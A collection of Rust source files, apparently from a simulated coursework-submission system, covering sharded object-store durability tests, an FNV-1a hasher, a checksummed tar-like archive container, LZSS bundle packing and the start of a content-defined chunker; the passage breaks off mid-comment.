            s.inner.arena.write_acquisitions(),
            writes_before,
            "presence checks must never take an exclusive shard lock"
        );
        assert_eq!(
            s.inner.arena.read_acquisitions(),
            reads_before + digests.len() as u64,
            "each probe costs exactly one shared-guard acquisition"
        );
    }

    #[test]
    fn sharded_arena_matches_single_lock_reference() {
        let run = |shards: usize| {
            let s = store_with_shards(shards);
            sharded_workload(&s);
            (fingerprint(&s), s.get("keep", "reborn").unwrap().data)
        };
        let reference = run(1);
        for shards in [4, 16] {
            assert_eq!(run(shards), reference, "shards={shards} must be observationally identical");
        }
        // The occupancy gauge partitions the resident set exactly.
        let s = store_with_shards(4);
        sharded_workload(&s);
        let counts = s.shard_chunk_counts();
        assert_eq!(counts.len(), 4);
        assert_eq!(counts.iter().sum::<u64>(), s.usage().chunks);
    }

    #[test]
    fn sharded_durable_recovery_round_trip() {
        let (s, disk) = durable_sharded(4);
        sharded_workload(&s);
        s.sync_wal();
        let clock = VirtualClock::new();
        clock.advance(SimDuration::from_days(95));
        let (r, recovery) = reopen_sharded(&disk, 4, clock);
        assert_eq!(recovery.stats.corrupt_dropped, 0);
        assert_eq!(recovery.malformed_dropped, 0);
        assert_eq!(recovery.objects_dropped, 0);
        assert_eq!(fingerprint(&r), fingerprint(&s), "per-shard replay must be exact");
        // ...and byte-identical to the legacy single-log reference run
        // (compared before any reads — gets are journaled and counted).
        let (legacy, _) = durable_store(rai_wal::DurabilityConfig::durable());
        sharded_workload(&legacy);
        assert_eq!(fingerprint(&r), fingerprint(&legacy));
        // Read through `r` only: `s` still journals into the same
        // disk, and a stray Touch would double-count on the reopen.
        assert_eq!(r.get("keep", "reborn").unwrap().data.as_ref(), &varied(5000, 77)[..]);
        // The recovered store keeps journaling into its lanes.
        r.put("keep", "after", &b"post-recovery"[..], []).unwrap();
        r.sync_wal();
        let (r2, _) = reopen_sharded(&disk, 4, VirtualClock::new());
        assert_eq!(fingerprint(&r2), fingerprint(&r));
        assert_eq!(r2.get("keep", "after").unwrap().data.as_ref(), b"post-recovery");
    }

    #[test]
    fn sharded_compaction_compacts_all_lanes_together() {
        let disk = rai_wal::MemDisk::new();
        let config = rai_wal::DurabilityConfig {
            compact_min_bytes: 1,
            compact_factor: 2,
            ..rai_wal::DurabilityConfig::durable()
        };
        let (main, lanes) = ObjectStore::open_store_logs(Arc::new(disk.clone()), config, 4);
        let s = ObjectStore::with_shards(VirtualClock::new(), 4);
        s.attach_logs(main, lanes);
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        for i in 0..50u64 {
            s.put("keep", "hot", varied(1200, i), []).unwrap();
        }
        s.sync_wal();
        let before = disk.total_bytes();
        assert!(s.maybe_compact(), "50 dead overwrites must trip the threshold");
        let after = disk.total_bytes();
        assert!(
            after * 4 < before,
            "snapshot + resident lane chunks should be far smaller ({after} vs {before})"
        );
        let (r, recovery) = reopen_sharded(&disk, 4, VirtualClock::new());
        assert_eq!(recovery.objects_dropped, 0);
        assert_eq!(fingerprint(&r), fingerprint(&s));
        assert_eq!(r.get("keep", "hot").unwrap().data, s.get("keep", "hot").unwrap().data);
    }

    #[test]
    fn sharded_torn_lane_loses_only_unsynced_objects() {
        let (s, disk) = durable_sharded(4);
        let a = varied(2000, 31);
        s.put("keep", "synced", a.clone(), []).unwrap();
        s.sync_wal();
        s.put("keep", "unsynced", varied(2000, 32), []).unwrap();
        let profile = rai_faults::DiskFaultProfile {
            torn_tail: 1.0,
            ..rai_faults::DiskFaultProfile::none(9)
        };
        let faults = disk.crash_with(&profile, 0);
        assert!(!faults.is_empty(), "profile guarantees a torn tail");
        // The tear lands in whichever lane owns the highest physical
        // segment — possibly a chunk lane (Put resolves nothing and is
        // dropped) or the main lane (the Put itself is lost). Either
        // way the synced object survives and nothing half-exists.
        let (r, recovery) = reopen_sharded(&disk, 4, VirtualClock::new());
        assert!(
            recovery.stats.torn_bytes > 0 || recovery.stats.corrupt_dropped > 0,
            "the tear must be detected, not silently accepted"
        );
        assert_eq!(
            r.get("keep", "synced").unwrap().data.as_ref(),
            &a[..],
            "synced object survives intact"
        );
        let objects = r.usage().objects;
        assert!(objects == 1 || objects == 2, "unsynced put may or may not survive");
        for meta in r.list("keep", "").unwrap() {
            r.get("keep", &meta.key).unwrap();
        }
        let counts = r.shard_chunk_counts();
        assert_eq!(counts.iter().sum::<u64>(), r.usage().chunks, "no orphaned chunks linger");
    }

    #[test]
    fn concurrent_puts_and_gets() {
        let s = store();
        let mut handles = Vec::new();
        for t in 0..8 {
            let s = s.clone();
            handles.push(std::thread::spawn(move || {
                for i in 0..50 {
                    let key = format!("t{t}/obj{i}");
                    s.put("keep", &key, vec![t as u8; 10], []).unwrap();
                    let got = s.get("keep", &key).unwrap();
                    assert_eq!(got.data.len(), 10);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(s.usage().objects, 400);
    }
}
