//! Stored-object model.

use bytes::Bytes;
use rai_sim::SimTime;
use std::collections::BTreeMap;

/// Metadata about a stored object, returned by `head`/`list`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ObjectMeta {
    /// Key within its bucket.
    pub key: String,
    /// Payload size in bytes.
    pub size: u64,
    /// FNV-1a etag of the payload.
    pub etag: String,
    /// Upload time.
    pub uploaded_at: SimTime,
    /// Last get/put time (drives last-use lifecycle rules).
    pub last_used: SimTime,
    /// User-supplied metadata (e.g. `team`, `submission=final`).
    pub user: BTreeMap<String, String>,
}

/// An object plus its payload.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StoredObject {
    /// Metadata.
    pub meta: ObjectMeta,
    /// Payload.
    pub data: Bytes,
}

pub(crate) fn etag_of(data: &[u8]) -> String {
    // Same construction as rai_archive::fnv::etag, duplicated to keep the
    // store substrate dependency-free of the archive crate.
    const OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
    const PRIME: u64 = 0x0000_0100_0000_01b3;
    let mut h = OFFSET;
    for &b in data {
        h ^= b as u64;
        h = h.wrapping_mul(PRIME);
    }
    format!("{h:016x}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn etag_is_fnv1a_hex() {
        assert_eq!(etag_of(b""), format!("{:016x}", 0xcbf2_9ce4_8422_2325u64));
        assert_ne!(etag_of(b"a"), etag_of(b"b"));
        assert_eq!(etag_of(b"abc").len(), 16);
    }
}
