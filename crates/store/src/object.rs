//! Stored-object model.

use bytes::Bytes;
use rai_sim::SimTime;
use std::collections::BTreeMap;

/// Metadata about a stored object, returned by `head`/`list`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ObjectMeta {
    /// Key within its bucket.
    pub key: String,
    /// Payload size in bytes.
    pub size: u64,
    /// FNV-1a etag of the payload.
    pub etag: String,
    /// Upload time.
    pub uploaded_at: SimTime,
    /// Last get/put time (drives last-use lifecycle rules).
    pub last_used: SimTime,
    /// User-supplied metadata (e.g. `team`, `submission=final`).
    pub user: BTreeMap<String, String>,
}

/// An object plus its payload, reassembled from its chunks on read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StoredObject {
    /// Metadata.
    pub meta: ObjectMeta,
    /// Payload.
    pub data: Bytes,
}

#[cfg(test)]
mod tests {
    use super::*;
    use rai_sim::SimTime;

    #[test]
    fn meta_etag_matches_archive_etag() {
        // The store's etags come straight from the chunker's manifest,
        // which uses rai_archive::fnv — one hash construction end to end.
        let meta = ObjectMeta {
            key: "k".into(),
            size: 3,
            etag: rai_archive::fnv::etag(b"abc"),
            uploaded_at: SimTime::ZERO,
            last_used: SimTime::ZERO,
            user: BTreeMap::new(),
        };
        assert_eq!(meta.etag.len(), 16);
        assert_eq!(meta.etag, rai_archive::fnv::etag(b"abc"));
    }
}
