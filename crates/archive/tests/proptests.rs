//! Property tests for the archive substrate: compression, container,
//! and chunker round-trips over arbitrary data, and corruption
//! detection.

use proptest::prelude::*;
use rai_archive::lzss;
use rai_archive::{pack, unpack, FileTree};

fn arb_tree() -> impl Strategy<Value = FileTree> {
    let path = proptest::string::string_regex("[a-z][a-z0-9_.]{0,8}(/[a-z][a-z0-9_.]{0,8}){0,3}")
        .expect("valid regex");
    let data = prop::collection::vec(any::<u8>(), 0..512);
    prop::collection::vec((path, data), 0..12).prop_map(|files| {
        let mut t = FileTree::new();
        for (p, d) in files {
            // Duplicates simply overwrite — fine for generation.
            t.insert(&p, d).expect("generated path is valid");
        }
        t
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn lzss_round_trips_arbitrary_bytes(data in prop::collection::vec(any::<u8>(), 0..4096)) {
        let c = lzss::compress(&data);
        prop_assert_eq!(lzss::decompress(&c).unwrap(), data);
    }

    #[test]
    fn lzss_round_trips_structured_text(
        s in "[a-z /.:=-]{0,2048}",
        reps in 1usize..6,
    ) {
        let data = s.repeat(reps).into_bytes();
        let c = lzss::compress(&data);
        prop_assert_eq!(lzss::decompress(&c).unwrap(), data);
    }

    #[test]
    fn lzss_decompress_never_panics(garbage in prop::collection::vec(any::<u8>(), 0..1024)) {
        let _ = lzss::decompress(&garbage);
    }

    #[test]
    fn bundle_round_trips(tree in arb_tree()) {
        let b = pack(&tree);
        prop_assert_eq!(unpack(&b.bytes).unwrap(), tree);
    }

    #[test]
    fn bundle_detects_single_bit_corruption(
        tree in arb_tree(),
        flip_seed in any::<u64>(),
    ) {
        let b = pack(&tree);
        let pos = (flip_seed as usize) % b.bytes.len();
        let bit = 1u8 << (flip_seed % 8);
        let mut corrupted = b.bytes.clone();
        corrupted[pos] ^= bit;
        // Either the flip is detected, or (never) silently accepted as a
        // *different* tree. Equal output is allowed only if the bytes are
        // equal, which they are not.
        match unpack(&corrupted) {
            Err(_) => {}
            Ok(t) => prop_assert_eq!(t, tree, "corruption silently changed content"),
        }
    }

    #[test]
    fn unpack_never_panics(garbage in prop::collection::vec(any::<u8>(), 0..2048)) {
        let _ = unpack(&garbage);
    }
}

fn arb_chunker_params() -> impl Strategy<Value = rai_archive::ChunkerParams> {
    // avg must be a power of two; min and max bracket it.
    (2u32..10, 1usize..=64, 1usize..=8).prop_map(|(exp, min, mul)| {
        let avg = 1usize << exp;
        rai_archive::ChunkerParams {
            min: min.min(avg),
            avg,
            max: avg * mul,
        }
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn chunker_round_trips(
        data in prop::collection::vec(any::<u8>(), 0..8192),
        params in arb_chunker_params(),
    ) {
        let (manifest, chunks) = rai_archive::chunk_bytes(&data, params);
        let map: std::collections::BTreeMap<_, _> =
            chunks.iter().map(|c| (c.digest, c.data.clone())).collect();
        let back = rai_archive::chunk::assemble(&manifest, |d| map.get(&d).cloned());
        prop_assert_eq!(back.as_deref(), Some(&data[..]));
        prop_assert_eq!(manifest.total_len, data.len() as u64);
        prop_assert_eq!(&manifest.etag, &rai_archive::fnv::etag(&data));
    }

    #[test]
    fn chunker_is_deterministic(
        data in prop::collection::vec(any::<u8>(), 0..8192),
        params in arb_chunker_params(),
    ) {
        let (a, _) = rai_archive::chunk_bytes(&data, params);
        let (b, _) = rai_archive::chunk_bytes(&data, params);
        prop_assert_eq!(a, b);
    }

    #[test]
    fn chunker_respects_size_bounds(
        data in prop::collection::vec(any::<u8>(), 0..8192),
        params in arb_chunker_params(),
    ) {
        let (manifest, _) = rai_archive::chunk_bytes(&data, params);
        let mut total = 0u64;
        for (i, c) in manifest.chunks.iter().enumerate() {
            prop_assert!((c.len as usize) <= params.max, "chunk {} over max", i);
            if i + 1 < manifest.chunks.len() {
                prop_assert!((c.len as usize) >= params.min, "non-final chunk {} under min", i);
            }
            prop_assert!(c.len > 0, "empty chunk {}", i);
            total += c.len as u64;
        }
        prop_assert_eq!(total, manifest.total_len);
    }
}
