//! FNV-1a 64-bit hashing, used for archive checksums and object-store
//! ETags. Not cryptographic — integrity against accidental corruption,
//! exactly what tar-style checksums provide.

/// FNV-1a 64-bit offset basis.
pub const OFFSET_BASIS: u64 = 0xcbf2_9ce4_8422_2325;
/// FNV-1a 64-bit prime.
pub const PRIME: u64 = 0x0000_0100_0000_01b3;

/// Incremental FNV-1a hasher.
#[derive(Clone, Copy, Debug)]
pub struct Fnv1a(u64);

impl Default for Fnv1a {
    fn default() -> Self {
        Fnv1a(OFFSET_BASIS)
    }
}

impl Fnv1a {
    /// A fresh hasher.
    pub fn new() -> Self {
        Self::default()
    }

    /// Fold bytes into the state.
    pub fn update(&mut self, bytes: &[u8]) -> &mut Self {
        let mut h = self.0;
        for &b in bytes {
            h ^= b as u64;
            h = h.wrapping_mul(PRIME);
        }
        self.0 = h;
        self
    }

    /// Current digest.
    pub fn digest(&self) -> u64 {
        self.0
    }
}

/// One-shot hash of a byte slice.
pub fn hash(bytes: &[u8]) -> u64 {
    Fnv1a::new().update(bytes).digest()
}

/// Render a digest as the hex "etag" format used by the object store.
pub fn etag(bytes: &[u8]) -> String {
    format!("{:016x}", hash(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // Standard FNV-1a test vectors.
        assert_eq!(hash(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(hash(b"a"), 0xaf63_dc4c_8601_ec8c);
        assert_eq!(hash(b"foobar"), 0x8594_4171_f739_67e8);
    }

    #[test]
    fn incremental_matches_oneshot() {
        let mut h = Fnv1a::new();
        h.update(b"hello ").update(b"world");
        assert_eq!(h.digest(), hash(b"hello world"));
    }

    #[test]
    fn etag_is_16_hex_chars() {
        let e = etag(b"data");
        assert_eq!(e.len(), 16);
        assert!(e.chars().all(|c| c.is_ascii_hexdigit()));
    }

    #[test]
    fn different_inputs_differ() {
        assert_ne!(hash(b"submission-1"), hash(b"submission-2"));
    }
}
