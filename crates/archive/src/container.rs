//! The tar-like entry container.
//!
//! Layout (all integers little-endian):
//!
//! ```text
//! magic            "RAIAR1\0"           8 bytes
//! entry count      u32
//! per entry:
//!   path length    u16
//!   path bytes     UTF-8, normalized
//!   kind           u8  (0 = regular file)
//!   data length    u64
//!   data bytes
//!   checksum       u64 FNV-1a over (path bytes ++ data bytes)
//! trailer checksum u64 FNV-1a over everything before it
//! ```

use crate::fnv::Fnv1a;
use crate::tree::{normalize, FileTree};
use bytes::Bytes;

const MAGIC: &[u8; 8] = b"RAIAR1\0\0";

/// Entry kind. Only regular files exist today; the discriminant is kept
/// explicit so that the format can grow (symlinks, exec bits) without a
/// magic bump.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum EntryKind {
    /// A regular file.
    Regular = 0,
}

/// One archived file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Entry {
    /// Normalized relative path.
    pub path: String,
    /// Entry kind.
    pub kind: EntryKind,
    /// File contents.
    pub data: Bytes,
}

/// Error reading or writing an archive.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ArchiveError {
    /// Wrong magic bytes.
    BadMagic,
    /// Stream ended early.
    Truncated,
    /// Entry path was not valid UTF-8 or not a normalized relative path.
    BadPath,
    /// Unknown entry kind byte.
    BadKind(u8),
    /// A per-entry or trailer checksum mismatched.
    ChecksumMismatch { context: &'static str },
    /// Two entries shared a path.
    DuplicatePath(String),
    /// Decompression failed (propagated by the bundle layer).
    Compression(crate::lzss::LzssError),
}

impl std::fmt::Display for ArchiveError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ArchiveError::BadMagic => write!(f, "archive: bad magic"),
            ArchiveError::Truncated => write!(f, "archive: truncated"),
            ArchiveError::BadPath => write!(f, "archive: invalid entry path"),
            ArchiveError::BadKind(k) => write!(f, "archive: unknown entry kind {k}"),
            ArchiveError::ChecksumMismatch { context } => {
                write!(f, "archive: checksum mismatch ({context})")
            }
            ArchiveError::DuplicatePath(p) => write!(f, "archive: duplicate path {p:?}"),
            ArchiveError::Compression(e) => write!(f, "archive: {e}"),
        }
    }
}

impl std::error::Error for ArchiveError {}

impl From<crate::lzss::LzssError> for ArchiveError {
    fn from(e: crate::lzss::LzssError) -> Self {
        ArchiveError::Compression(e)
    }
}

/// Serialize a [`FileTree`] into the container format (uncompressed).
pub fn write_container(tree: &FileTree) -> Vec<u8> {
    let mut out = Vec::with_capacity(tree.total_size() as usize + 64 * tree.len() + 32);
    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&(tree.len() as u32).to_le_bytes());
    for (path, data) in tree.iter() {
        out.extend_from_slice(&(path.len() as u16).to_le_bytes());
        out.extend_from_slice(path.as_bytes());
        out.push(EntryKind::Regular as u8);
        out.extend_from_slice(&(data.len() as u64).to_le_bytes());
        out.extend_from_slice(data);
        let mut h = Fnv1a::new();
        h.update(path.as_bytes()).update(data);
        out.extend_from_slice(&h.digest().to_le_bytes());
    }
    let mut trailer = Fnv1a::new();
    trailer.update(&out);
    out.extend_from_slice(&trailer.digest().to_le_bytes());
    out
}

struct Reader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn take(&mut self, n: usize) -> Result<&'a [u8], ArchiveError> {
        if self.pos + n > self.buf.len() {
            return Err(ArchiveError::Truncated);
        }
        let s = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }

    fn u16(&mut self) -> Result<u16, ArchiveError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().expect("len 2")))
    }

    fn u32(&mut self) -> Result<u32, ArchiveError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().expect("len 4")))
    }

    fn u64(&mut self) -> Result<u64, ArchiveError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().expect("len 8")))
    }
}

/// Deserialize a container back into a [`FileTree`], verifying every
/// checksum.
pub fn read_container(buf: &[u8]) -> Result<FileTree, ArchiveError> {
    // Verify the trailer first: cheap whole-archive integrity.
    if buf.len() < MAGIC.len() + 4 + 8 {
        return Err(ArchiveError::Truncated);
    }
    let (body, trailer_bytes) = buf.split_at(buf.len() - 8);
    let mut trailer = Fnv1a::new();
    trailer.update(body);
    if trailer.digest().to_le_bytes() != trailer_bytes {
        return Err(ArchiveError::ChecksumMismatch { context: "trailer" });
    }

    let mut r = Reader { buf: body, pos: 0 };
    if r.take(MAGIC.len())? != MAGIC {
        return Err(ArchiveError::BadMagic);
    }
    let count = r.u32()?;
    let mut tree = FileTree::new();
    for _ in 0..count {
        let path_len = r.u16()? as usize;
        let path_bytes = r.take(path_len)?;
        let path = std::str::from_utf8(path_bytes).map_err(|_| ArchiveError::BadPath)?;
        let norm = normalize(path).map_err(|_| ArchiveError::BadPath)?;
        if norm != path {
            return Err(ArchiveError::BadPath);
        }
        let kind = match r.take(1)?[0] {
            0 => EntryKind::Regular,
            other => return Err(ArchiveError::BadKind(other)),
        };
        let _ = kind;
        let data_len = r.u64()? as usize;
        let data = r.take(data_len)?;
        let stored = r.u64()?;
        let mut h = Fnv1a::new();
        h.update(path_bytes).update(data);
        if h.digest() != stored {
            return Err(ArchiveError::ChecksumMismatch { context: "entry" });
        }
        if tree.contains(&norm) {
            return Err(ArchiveError::DuplicatePath(norm));
        }
        tree.insert(&norm, data.to_vec()).map_err(|_| ArchiveError::BadPath)?;
    }
    if r.pos != body.len() {
        // Trailing garbage between last entry and trailer.
        return Err(ArchiveError::ChecksumMismatch { context: "length" });
    }
    Ok(tree)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_tree() -> FileTree {
        FileTree::new()
            .with("rai-build.yml", &b"rai:\n  version: 0.1\n"[..])
            .with("src/main.cu", &b"__global__ void k() {}\n"[..])
            .with("report.pdf", &b"%PDF-1.4 fake"[..])
    }

    #[test]
    fn round_trip() {
        let t = sample_tree();
        let bytes = write_container(&t);
        let back = read_container(&bytes).unwrap();
        assert_eq!(back, t);
    }

    #[test]
    fn empty_tree_round_trips() {
        let t = FileTree::new();
        assert_eq!(read_container(&write_container(&t)).unwrap(), t);
    }

    #[test]
    fn detects_bit_flip_anywhere() {
        let bytes = write_container(&sample_tree());
        // Flip one bit in several positions across the archive.
        for pos in [0, 9, 20, bytes.len() / 2, bytes.len() - 1] {
            let mut corrupted = bytes.clone();
            corrupted[pos] ^= 0x40;
            assert!(
                read_container(&corrupted).is_err(),
                "bit flip at {pos} went undetected"
            );
        }
    }

    #[test]
    fn detects_truncation() {
        let bytes = write_container(&sample_tree());
        for cut in [4, bytes.len() / 2, bytes.len() - 1] {
            assert!(read_container(&bytes[..cut]).is_err(), "cut at {cut}");
        }
    }

    #[test]
    fn rejects_bad_magic() {
        let mut bytes = write_container(&FileTree::new());
        bytes[0] = b'X';
        // Fix the trailer so only the magic is wrong.
        let body_len = bytes.len() - 8;
        let mut h = Fnv1a::new();
        h.update(&bytes[..body_len]);
        let digest = h.digest().to_le_bytes();
        bytes[body_len..].copy_from_slice(&digest);
        assert_eq!(read_container(&bytes), Err(ArchiveError::BadMagic));
    }

    #[test]
    fn error_display() {
        let e = ArchiveError::ChecksumMismatch { context: "entry" };
        assert!(e.to_string().contains("checksum"));
        assert!(ArchiveError::DuplicatePath("a".into()).to_string().contains("a"));
    }
}
