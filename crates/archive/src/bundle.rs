//! The top-level pack/unpack API: container + LZSS, playing the role of
//! `tar cjf` / `tar xjf` on the client and worker.

use crate::container::{read_container, write_container, ArchiveError};
use crate::fnv;
use crate::lzss;
use crate::tree::FileTree;
use rai_exec::Executor;

/// A packed project directory — what actually travels to the file
/// server.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Bundle {
    /// Compressed archive bytes.
    pub bytes: Vec<u8>,
    /// Uncompressed (container) size, for accounting.
    pub uncompressed_len: u64,
    /// ETag of the compressed bytes (FNV-1a hex), matching what the
    /// object store will compute on upload.
    pub etag: String,
}

impl Bundle {
    /// Size of the compressed payload in bytes.
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// Whether the payload is empty (never true — headers are present).
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Achieved compression ratio (compressed / uncompressed).
    pub fn ratio(&self) -> f64 {
        if self.uncompressed_len == 0 {
            1.0
        } else {
            self.bytes.len() as f64 / self.uncompressed_len as f64
        }
    }
}

/// Pack a file tree: serialize to the container format, then compress.
pub fn pack(tree: &FileTree) -> Bundle {
    let container = write_container(tree);
    let bytes = lzss::compress(&container);
    Bundle {
        etag: fnv::etag(&bytes),
        uncompressed_len: container.len() as u64,
        bytes,
    }
}

/// Unpack bytes produced by [`pack`] back into a file tree, verifying
/// compression framing and container checksums.
pub fn unpack(bytes: &[u8]) -> Result<FileTree, ArchiveError> {
    let container = lzss::decompress(bytes)?;
    read_container(&container)
}

/// Restore a file tree from either archive format, sniffing the magic:
/// LZSS-compressed bundles (produced by [`pack`]) or raw containers
/// (produced by [`write_container`], the form the dedup store chunks).
///
/// Readers use this instead of [`unpack`] so they keep working across
/// the storage-model migration, where uploads switched from compressed
/// bundles to chunked uncompressed containers (DESIGN.md §10).
pub fn restore(bytes: &[u8]) -> Result<FileTree, ArchiveError> {
    if bytes.starts_with(lzss::MAGIC) {
        unpack(bytes)
    } else {
        read_container(bytes)
    }
}

/// Pack a batch of independent file trees, compressing each container
/// as its own pool task.
///
/// LZSS (like the Gear chunker) is a pure function of one payload, so
/// batches of containers — instructor exports, the grading archive of
/// a whole section, report-scenario corpora — parallelize across trees
/// with no coordination. Results come back in input order
/// ([`Executor::par_map`]), so `pack_batch(exec, trees)[i]` is exactly
/// `pack(&trees[i])` at every parallelism.
pub fn pack_batch(exec: &Executor, trees: &[FileTree]) -> Vec<Bundle> {
    exec.par_map(trees.iter().collect(), pack)
}

/// Unpack a batch of payloads (either archive format, as in
/// [`restore`]), decompressing each as its own pool task. Results are
/// in input order; each element is exactly `restore(&payloads[i])`.
pub fn restore_batch(
    exec: &Executor,
    payloads: &[Vec<u8>],
) -> Vec<Result<FileTree, ArchiveError>> {
    exec.par_map(payloads.iter().collect(), |p: &Vec<u8>| restore(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project() -> FileTree {
        // A plausible student CUDA project; repetitive enough to compress.
        let kernel = "__global__ void conv_forward(float* y, const float* x) {\n    int i = blockIdx.x * blockDim.x + threadIdx.x;\n    y[i] = x[i];\n}\n"
            .repeat(20);
        FileTree::new()
            .with("rai-build.yml", &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\n"[..])
            .with("src/new-forward.cuh", kernel.clone().into_bytes())
            .with("src/main.cu", kernel.into_bytes())
            .with("CMakeLists.txt", &b"cmake_minimum_required(VERSION 3.0)\n"[..])
    }

    #[test]
    fn pack_unpack_round_trip() {
        let t = project();
        let b = pack(&t);
        assert_eq!(unpack(&b.bytes).unwrap(), t);
    }

    #[test]
    fn compresses_real_projects() {
        let b = pack(&project());
        assert!(b.ratio() < 0.5, "expected <0.5 ratio, got {}", b.ratio());
        assert!(b.uncompressed_len > b.len() as u64);
    }

    #[test]
    fn etag_matches_store_etag() {
        let b = pack(&project());
        assert_eq!(b.etag, fnv::etag(&b.bytes));
        assert_eq!(b.etag.len(), 16);
    }

    #[test]
    fn tamper_detected() {
        let mut b = pack(&project());
        let mid = b.bytes.len() / 2;
        b.bytes[mid] ^= 0xFF;
        assert!(unpack(&b.bytes).is_err());
    }

    #[test]
    fn empty_tree() {
        let b = pack(&FileTree::new());
        let t = unpack(&b.bytes).unwrap();
        assert!(t.is_empty());
    }

    #[test]
    fn batch_matches_per_item_calls_at_every_parallelism() {
        let trees: Vec<FileTree> = (0..12)
            .map(|i| {
                FileTree::new()
                    .with("src/main.cu", format!("// variant {i}\n").repeat(40).into_bytes())
                    .with("rai-build.yml", &b"rai:\n  version: 0.1\n"[..])
            })
            .collect();
        let expect: Vec<Bundle> = trees.iter().map(pack).collect();
        for threads in [1, 2, 8] {
            let exec = Executor::new(threads);
            let bundles = pack_batch(&exec, &trees);
            assert_eq!(bundles, expect, "pack_batch drift at threads={threads}");
            let payloads: Vec<Vec<u8>> = bundles.iter().map(|b| b.bytes.clone()).collect();
            let back = restore_batch(&exec, &payloads);
            for (i, t) in back.into_iter().enumerate() {
                assert_eq!(t.unwrap(), trees[i]);
            }
        }
    }

    #[test]
    fn restore_batch_surfaces_per_item_errors() {
        let good = pack(&project()).bytes;
        let bad = vec![0xFFu8; 32];
        let exec = Executor::new(2);
        let out = restore_batch(&exec, &[good, bad]);
        assert!(out[0].is_ok());
        assert!(out[1].is_err());
    }
}
