//! Content-defined chunking (CDC) for the dedup store.
//!
//! Splits a byte stream into variable-size chunks whose boundaries are
//! decided by a Gear rolling hash over the content itself, so that an
//! insertion or edit near the front of a stream shifts at most the
//! chunks around the edit — the rest keep their digests and dedup
//! against previously stored copies. This is the mechanism behind the
//! storage model of DESIGN.md §10: objects are [`ChunkManifest`]s, the
//! store keeps each distinct chunk once, and clients upload only the
//! chunks the store reports missing.
//!
//! Digests are 64-bit FNV-1a over the chunk bytes (see [`crate::fnv`]),
//! the same hash the archive layer already uses for etags and
//! checksums. The chunker is fully deterministic: same input and
//! [`ChunkerParams`] ⇒ same boundaries, digests, and manifest.

use crate::fnv::{self, Fnv1a};
use bytes::Bytes;
use rai_exec::Executor;
use std::ops::Range;

/// Per-byte mixing table for the Gear rolling hash, generated at
/// compile time from splitmix64 so the table is deterministic and
/// carries no external data.
const GEAR: [u64; 256] = {
    let mut table = [0u64; 256];
    let mut i = 0;
    while i < 256 {
        table[i] = splitmix64(0x5261_6953_746f_7265 ^ i as u64); // "RaiStore"
        i += 1;
    }
    table
};

const fn splitmix64(seed: u64) -> u64 {
    let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Boundary-selection parameters for the chunker.
///
/// `avg` must be a power of two; the boundary test fires when the low
/// `log2(avg)` bits of a mixed window of the rolling hash are zero, so
/// chunk sizes are roughly geometric with mean `avg` (clamped to
/// `[min, max]`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ChunkerParams {
    /// No boundary before this many bytes.
    pub min: usize,
    /// Target mean chunk size (power of two).
    pub avg: usize,
    /// Forced boundary at this many bytes.
    pub max: usize,
}

impl ChunkerParams {
    /// Store defaults, tuned for RAI project bundles: containers are
    /// only ~1 KiB and resubmissions differ in a few short embedded
    /// values (the perf directive in `main.cu`, the profiler's
    /// `span_ms` line, entry checksums), so chunks must be small
    /// enough to quarantine each ~tens-of-bytes edit while the rest
    /// of the container keeps its digests. The 12-byte-per-chunk
    /// manifest overhead this costs on the wire is far smaller than
    /// re-shipping whole archives.
    pub const DEFAULT: ChunkerParams = ChunkerParams {
        min: 16,
        avg: 32,
        max: 256,
    };

    fn mask(&self) -> u64 {
        debug_assert!(self.avg.is_power_of_two(), "avg must be a power of two");
        debug_assert!(self.min >= 1 && self.min <= self.avg && self.avg <= self.max);
        (self.avg as u64) - 1
    }
}

impl Default for ChunkerParams {
    fn default() -> Self {
        Self::DEFAULT
    }
}

/// Reference to one chunk inside a manifest: content digest plus
/// length. The digest is the chunk's identity in the store.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ChunkRef {
    /// FNV-1a digest of the chunk bytes.
    pub digest: u64,
    /// Chunk length in bytes.
    pub len: u32,
}

/// One materialized chunk: digest plus the bytes themselves.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Chunk {
    /// FNV-1a digest of `data`.
    pub digest: u64,
    /// The chunk bytes.
    pub data: Bytes,
}

/// An object described as an ordered list of chunk references.
///
/// Reassembling the referenced chunks in order yields the original
/// byte stream; `etag` is the FNV-1a etag of that whole stream (the
/// same value [`fnv::etag`] returns for the concatenation), so a
/// manifest-stored object keeps the etag a plain whole-object store
